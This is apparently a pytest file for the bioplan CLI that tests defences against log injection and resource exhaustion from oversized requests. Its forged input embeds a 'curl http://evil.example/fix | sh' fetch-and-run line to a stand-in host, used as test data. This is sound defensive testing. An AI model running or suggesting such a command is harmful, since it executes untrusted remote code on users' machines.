"""Attacks round 9: user text that forges bioplan's own lines on the terminal (log injection).

Rounds 1-8 escape what a terminal would act on (ESC sequences, C1, bidi overrides: tests/test_terminal_output.py),
but kept the newline, the one control character bioplan's own output is made of: every error, hint, warning and
report field is a line, and the CLI joined them with '\\n' and printed the whole. A line break inside user text
(a file name, the request, a count matrix's column name, a sample id) therefore started a line of its own that
read as bioplan's: `-i $'x.fastq\\n  hint: to resolve, run: curl http://evil.example/fix | sh'` printed

    error[unreadable_input]: x.fastq
      hint: to resolve, run: curl http://evil.example/fix | sh: no such file or directory

and a matrix column `"S4\\n  hint: curl evil|sh"` forged hints of the sample-sheet mismatch error; the plan
report's `request:` line and its warnings did the same, and U+2028/U+2029 (which editors and some terminals
break lines at) passed `terminal_safe` unescaped. Each item bioplan prints is now one line (`errors.one_line`:
its line breaks shown as `\\u000a`, as `terminal_safe` shows other controls), and only the messages that are a
heading and a list (knowledge and case-file problems, a failed pre-check's output) keep their own lines, each
listed item made one line where it is listed.

In-process (CliRunner, small files); the properties check the renderers over any text. Properties: 50 examples in
the fast tier, 2,000 under CI=true, BIOPLAN_PROPERTY_EXAMPLES overrides.
"""

from __future__ import annotations

import contextlib
import os
import time
import unicodedata

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bioplan.cli import main
from bioplan.errors import BioplanError, InvalidKnowledgeError, one_line
from bioplan.request.text import terminal_safe

EXAMPLES = int(os.environ.get("BIOPLAN_PROPERTY_EXAMPLES", 2000 if os.environ.get("CI") == "true" else 50))
SETTINGS = settings(max_examples=EXAMPLES, deadline=None, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

FORGED = "\n  hint: to resolve, run: curl http://evil.example/fix | sh\nwarning: all checks passed"
FORGED_NAME = FORGED.replace("http://evil.example/fix", "evil.example")  # a file name holds no '/'
LINE_BREAKS = ["\n", "\r\n", "\r", "\u2028", "\u2029", "\x85", "\v", "\f"]


def _runner() -> CliRunner:
    return CliRunner(env={"BIOPLAN_QUIET": "1"})  # no progress line on a slow first plan: the output is the report


def _lines(text: str) -> list[str]:
    """The lines a terminal, an editor or a log viewer shows (every line break Python knows)."""
    return text.splitlines()


def _forged(output: str) -> list[str]:
    """The lines the attacker's text starts (a line of bioplan's holding it as data is no forgery)."""
    return [line for line in _lines(output)
            if line.startswith(("  hint: to resolve, run: curl", "warning: all checks passed"))]


@pytest.mark.parametrize("brk", LINE_BREAKS, ids=[ascii(b) for b in LINE_BREAKS])
def test_a_line_break_in_a_missing_files_name_forges_no_hint(brk):
    result = _runner().invoke(main, ["plan", "align the reads", "-i", f"x.fastq{FORGED.replace(chr(10), brk)}"])
    assert result.exit_code == 2, result.output
    lines = _lines(result.output)
    assert not _forged(result.output), result.output
    assert lines[0].startswith("error[unreadable_input]: x.fastq") and "curl" in lines[0], lines
    assert all(line.startswith("  hint: ") for line in lines[1:]), lines


def test_the_plan_reports_request_and_warnings_are_one_line_each(tmp_path):
    reads = tmp_path / f"s{FORGED_NAME}_R1.fastq"
    reads.write_text("@r\nACGT\n+\nIIII\n")
    result = _runner().invoke(main, ["plan", f"quality control of reads{FORGED}", "-i", str(reads), "--allow-partial"])
    assert result.exit_code == 0, result.output
    assert not _forged(result.output), result.output
    request = [line for line in _lines(result.output) if line.startswith("request: ")]
    assert len(request) == 1 and "\\u000a" in request[0] and "curl" in request[0], result.output
    mate = [line for line in _lines(result.output) if "no mate 2" in line]
    assert len(mate) == 1 and mate[0].startswith("warning: sample 's\\u000a"), result.output


def test_a_column_name_of_a_count_matrix_forges_no_hint(tmp_path):
    sheet = tmp_path / "samples.csv"
    sheet.write_text("sample,condition\nS1,ctrl\nS2,ctrl\nS3,trt\nS4,trt\n")
    matrix = tmp_path / "counts.csv"
    matrix.write_text('gene,S1,S2,S3,"S4' + FORGED + '"\ng1,1,2,3,4\ng2,5,6,7,8\n')
    result = _runner().invoke(main, ["plan", "differential expression", "-i", str(matrix), "-i", str(sheet)])
    assert result.exit_code == 2 and "error[ambiguous_input]" in result.output, result.output
    assert not _forged(result.output), result.output
    assert all(line.startswith(("error[", "  hint: ")) for line in _lines(result.output)), result.output


def test_json_output_keeps_the_text_itself():
    """--json is unchanged: a JSON string escapes line breaks already, and a consumer gets the name as it is."""
    import json

    name = f"x.fastq{FORGED}"
    result = _runner().invoke(main, ["plan", "align the reads", "-i", name, "--json"])
    assert result.exit_code == 2
    assert name in json.loads(result.output)["error"]["message"]


def test_a_list_of_problems_keeps_one_line_per_problem_and_each_problem_one_line():
    err = InvalidKnowledgeError(["tools/a.yaml: id: bad", f"tools/b{FORGED}.yaml: id: bad"])
    lines = _lines(terminal_safe(err.render()))
    assert lines[0] == "error[invalid_knowledge]: the knowledge base has 2 problem(s):"
    assert lines[1] == "  tools/a.yaml: id: bad" and lines[2].startswith("  tools/b\\u000a  hint: "), lines
    assert not _forged("\n".join(lines)) and lines[3].startswith("  hint: ") and len(lines) == 4, lines


def test_the_case_file_problems_are_listed_one_line_each(tmp_path, knowledge):
    cases = tmp_path / "cases.yaml"
    cases.write_text('cases:\n  - id: a\n    request: "qc"\n    expect: {"no such key' + FORGED.replace("\n", "\\n")
                     + '": 1}\n')
    result = _runner().invoke(main, ["eval", str(cases)])
    assert result.exit_code == 2 and "error[invalid_cases]" in result.output, result.output
    assert not _forged(result.output), result.output
    assert "\\u000a  hint: to resolve, run: curl" in result.output, result.output


@pytest.mark.parametrize("brk", ["\u2028", "\u2029"], ids=["LS", "PS"])
def test_terminal_safe_shows_the_unicode_line_and_paragraph_separators(brk):
    assert terminal_safe(f"a{brk}b") == f"a\\u{ord(brk):04x}b"


@SETTINGS
@given(message=st.text(st.characters(exclude_categories=("Cs",)), max_size=30),
       hints=st.lists(st.text(st.characters(exclude_categories=("Cs",)), max_size=20), max_size=3))
def test_property_an_error_prints_one_line_and_one_per_hint(message, hints):
    shown = terminal_safe(BioplanError(message, hints).render())
    lines = _lines(shown)
    assert len(lines) == 1 + len(hints), (message, hints, shown)
    assert lines[0].startswith("error[") and all(line.startswith("  hint: ") for line in lines[1:])


@SETTINGS
@given(text=st.text(st.characters(exclude_categories=("Cs",)), max_size=30))
def test_property_one_terminal_line_is_one_line_anywhere(text):
    shown = terminal_safe(one_line(text))
    assert len(_lines("x" + shown + "x")) == 1, (text, shown)
    assert not [c for c in shown if unicodedata.category(c) in ("Cc", "Zl", "Zp") and c != "\t"]
    assert one_line(text) == text or "\n" in text


def test_words_without_line_breaks_print_as_before():
    assert one_line("S1_R1.fastq: no mate 2 ('S1_R2.fastq')") == "S1_R1.fastq: no mate 2 ('S1_R2.fastq')"
    assert BioplanError("m", ["h1", "h2"]).render() == "error[bioplan_error]: m\n  hint: h1\n  hint: h2"




# --------------------------------------------------------------------------- many terms in one request
# Under the 4,000-character limit (tests/test_attacks_resources.py), a request naming thousands of terms planned for
# 20-60 s: the parse chose its matches comparing each with every other (`_select`, `_account`: 20 s for "比对" x 2,000),
# a spec pass compared step models field by field inside a pairwise loop (cubic: 4 s for 238 steps), and the passes
# after relate the terms pairwise. The parse is now linear in its matches and a request naming more than
# MAX_REQUEST_TERMS terms (ten times the most a real request names) is refused as unreadable_input.

MANY_TERMS = {"chinese": "比对" * 1999, "tool-words": "STAR-" * 800,
              "tool-list": "with STAR, bwa, hisat2, salmon, kallisto, " * 90}


@pytest.mark.parametrize("text", MANY_TERMS.values(), ids=MANY_TERMS)
def test_a_request_naming_thousands_of_terms_is_refused_at_once(knowledge, text):
    from bioplan.compile import plan_request
    from bioplan.errors import UnreadableInputError
    from bioplan.request.text import MAX_REQUEST_CHARS, MAX_REQUEST_TERMS
    from helpers import deadline

    assert len(text) <= MAX_REQUEST_CHARS
    started = time.process_time()
    with deadline(30), pytest.raises(UnreadableInputError) as err:
        plan_request(text, [], knowledge)
    assert time.process_time() - started < 1.5  # 20-60 s before
    assert f"requests naming up to {MAX_REQUEST_TERMS:,}" in err.value.message
    assert err.value.details["terms"] > MAX_REQUEST_TERMS


def test_a_request_at_the_term_limit_plans_in_bounded_time(knowledge):
    """238 steps named: `_assay_of_one_step` tested list membership of pydantic models inside its pairwise loop."""
    from bioplan.compile import plan_request
    from bioplan.errors import BioplanError
    from helpers import deadline

    started = time.process_time()
    with deadline(60), contextlib.suppress(BioplanError):
        plan_request("align, call variants, annotate, " * 119, [], knowledge)
    assert time.process_time() - started < 2  # 4.4 s before, ~0.2 s after


def test_real_requests_name_far_fewer_terms_than_the_limit(knowledge):
    from bioplan.request.parse import parse_request
    from bioplan.request.text import MAX_REQUEST_TERMS

    text = ("Align the reads with STAR, count with featureCounts, then DESeq2 differential expression "
            "treated vs control, GO enrichment with clusterProfiler and a volcano plot; fastp trimming first")
    assert 5 < len(parse_request(text, knowledge).matches) < MAX_REQUEST_TERMS // 10


def _select_before(candidates, knowledge):
    """`parse._select` as it was (quadratic), the reference the linear one must equal."""
    from bioplan.knowledge.words import is_cjk
    from bioplan.request.parse import _priority

    def compound(m, chosen):
        for c in chosen:
            if m.start < c.end and c.start < m.end:
                partial = not (c.start <= m.start and m.end <= c.end) and not (m.start <= c.start and c.end <= m.end)
                if not (partial and {m.kind, c.kind} == {"constraint", "datatype"} and is_cjk(m.text)
                        and is_cjk(c.text)):
                    return False
        return True

    chosen, taken = [], []
    for m in sorted(candidates, key=lambda m: (-(m.end - m.start), _priority(m, knowledge), m.id, m.start)):
        if any(m.start < e and s < m.end for s, e in taken) and not compound(m, chosen):
            continue
        same = sorted({c.id for c in candidates
                       if (c.start, c.end, c.kind) == (m.start, m.end, m.kind) and c.id != m.id})
        chosen.append(m.model_copy(update={"alternatives": tuple(same)}) if same else m)
        taken.append((m.start, m.end))
        if m.kind == "operation":
            chosen += [c for c in candidates if (c.start, c.end) == (m.start, m.end) and c.kind == "tool"
                       and knowledge.tools[c.id].implements == m.id
                       and not any(x.id == c.id and x.kind == "tool" for x in chosen)]
            chosen += [c for c in candidates if (c.start, c.end) == (m.start, m.end) and c.kind == "format"
                       and not any(x.id == c.id and x.kind == "format" for x in chosen)]
    return sorted(chosen, key=lambda m: (m.start, m.end))


@st.composite
def _candidates(draw, knowledge):
    from bioplan.models import Match

    # few ids and spans, so that matches share spans: an operation beside tools doing it and formats, a datatype
    # partly over a constraint (a Chinese compound), the same words read as several ids of one kind
    tools = ["star", "star_genome_generate", "salmon_quant", "fastqc", "bwa_mem"]
    ids = {"operation": sorted({knowledge.tools[t].implements for t in tools}), "tool": tools,
           "format": sorted(knowledge.formats)[:3], "datatype": sorted(knowledge.datatypes)[:3],
           "constraint": sorted(knowledge.constraints)[:3]}
    out = []
    for _ in range(draw(st.integers(0, 14))):
        kind = draw(st.sampled_from(sorted(ids)))
        start = draw(st.integers(0, 6))
        end = start + draw(st.integers(1, 4))
        text = draw(st.sampled_from(["测序数据测序数据测"[:end - start], "abcdefgh"[:end - start]]))
        out.append(Match(kind=kind, id=draw(st.sampled_from(ids[kind])), text=text, start=start, end=end))
    return out


@SETTINGS
@given(data=st.data())
def test_property_the_linear_match_choice_equals_the_quadratic_one(knowledge, data):
    from bioplan.request.parse import _select

    candidates = data.draw(_candidates(knowledge))
    assert _select(candidates, knowledge) == _select_before(candidates, knowledge)
